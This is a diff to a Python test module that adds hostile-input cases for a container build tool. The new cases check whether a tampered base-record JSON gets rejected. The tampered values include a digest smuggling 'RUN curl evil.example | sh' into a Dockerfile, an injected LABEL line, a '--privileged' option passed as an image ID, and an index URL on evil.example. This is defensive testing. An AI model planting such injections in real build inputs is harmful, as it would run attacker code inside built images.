@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import os
 
+from ..helpers import derived_manifest
 from .hostile import (
     SECRET,
     HostileCase,
@@ -25,14 +26,22 @@ from .hostile import (
 MANIFEST = "manifests/derived/team-x.yaml"
 REQUIREMENTS = "requirements/team-x.txt"
 LOCK = "constraints/team-x.lock"
-DERIVED = """extends: dev
-summary: a team's stack on dev
-derive:
-  requirements: requirements/team-x.txt
-  overrides:
-    - replaces: tqdm==4.70.1
-      reason: the team's notebooks pin tqdm 4.67
-"""
+DERIVED = derived_manifest("team-x", overrides=(("tqdm==4.70.1", "the team's notebooks pin tqdm 4.67"),))
+
+
+BASE_RECORD = ('{"image_id": "sha256:' + "1" * 64 + '", "tags": ["nvcr.io/nvidia/pytorch:dev-py3"], '
+               '"pushed": {"127.0.0.1:5000/nvidia/pytorch:dev-py3": {"digest": "DIGEST"}}}')
+
+
+def copy_team_vision(project) -> None:
+    """The example derived release with its requirements and committed (fresh) lock."""
+    import shutil
+
+    from ..conftest import REPO
+
+    for rel in ("manifests/derived/team-vision.yaml", "requirements/team-vision.txt", "constraints/team-vision.lock"):
+        (project.root / rel).parent.mkdir(parents=True, exist_ok=True)
+        shutil.copy(REPO / rel, project.root / rel)
 
 
 def team(project, outside):
@@ -51,6 +60,11 @@ def no_lock_written(project, outside) -> str | None:
         return found
     lock = project.root / LOCK
     return f"{LOCK} was written" if lock.is_file() and not lock.is_symlink() else None
+
+
+def no_team_vision_built(project, outside) -> str | None:
+    built = project.root / "build" / "team-vision"
+    return f"build/team-vision/ was written: {sorted(p.name for p in built.iterdir())[:6]}" if built.exists() else None
 
 
 def derived_cases(add) -> None:
@@ -119,7 +133,11 @@ def derived_cases(add) -> None:
          ("pip.protected",)),
         ("derived-on-derived", render, setup_all(team, write("manifests/derived/team-y.yaml", DERIVED),
                                                  edit(MANIFEST, "extends: dev", "extends: derived/team-y")),
-         ()),
+         ("extends: derived/team-y is itself a derived release", "base.digest")),
+        ("derived-on-derived-build", ("build", "--release", "team-x"),
+         setup_all(team, write("manifests/derived/team-y.yaml", DERIVED),
+                   edit(MANIFEST, "extends: dev", "extends: derived/team-y")),
+         ("extends: derived/team-y is itself a derived release",)),
         ("derived-base-image-credentials", render,
          setup_all(team, write(MANIFEST, "extends: parts/debian-bookworm\nsummary: x\norigin: public-wheels\n"
                                          f"base:\n  image: u:{SECRET}@registry.example/x:1\npip: {{constraint_file: true}}\n"
@@ -140,6 +158,23 @@ def derived_cases(add) -> None:
         ("lock-stale-build", ("build", "--release", "team-x"),
          setup_all(team, write(LOCK, "# inputs-sha256: " + "0" * 64 + "\neinops==0.8.2\n")),
          ("stale", "ngcbuild resolve --release team-x")),
+        # the base's record (build/dev/record.json, maybe another job's artifact): what FROM is made of
+        ("base-record-digest-injection", ("build", "--release", "team-vision"),
+         setup_all(dev, lambda p, o: copy_team_vision(p), write("build/dev/record.json", BASE_RECORD.replace(
+             "DIGEST", "sha256:" + "1" * 64 + '\\"\\nRUN curl evil.example | sh'))),
+         ("build/dev/record.json", "digest: expected sha256:<64 hex digits>")),
+        ("base-record-ref-injection", ("render", "--release", "team-vision"),
+         setup_all(dev, lambda p, o: copy_team_vision(p), write("build/dev/record.json", BASE_RECORD.replace(
+             "127.0.0.1:5000/nvidia/pytorch:dev-py3", "127.0.0.1:5000/nvidia/pytorch:dev-py3\\nLABEL x=y").replace(
+             "DIGEST", "sha256:" + "1" * 64))),
+         ("build/dev/record.json", "pushed: expected keys that are image references")),
+        ("base-record-image-id-option", ("build", "--release", "team-vision"),
+         setup_all(dev, lambda p, o: copy_team_vision(p), write("build/dev/record.json",
+                                                                 '{"image_id": "--privileged", "pushed": {}}')),
+         ("build/dev/record.json", "image_id: expected sha256:")),
+        ("derived-base-image-a-tag", ("build", "--release", "team-vision", "--base-image",
+                                      "127.0.0.1:5000/nvidia/pytorch:dev-py3"),
+         setup_all(dev, lambda p, o: copy_team_vision(p)), ("--base-image", "by digest")),
         # arguments
         ("resolve-release-traversal", ("resolve", "--release", "../team-x"), team, ("--release",)),
         ("resolve-not-derived", ("resolve", "--release", "dev"), team, ("not a derived release",)),
@@ -156,4 +191,6 @@ def derived_cases(add) -> None:
          setup_all(team, write("req.txt", "-i https://evil.example/simple\n")), ("names an index",)),
     ]:
         after = nothing_built if name.startswith("lock-") else no_lock_written  # those cases put a lock there
+        if name.startswith(("base-record-", "derived-base-image-a-tag")):  # build/dev/ is the case's own
+            after = no_team_vision_built
         add(HostileCase(name, klass, argv, setup, mentions=mentions, absent=(SECRET,), after=after))
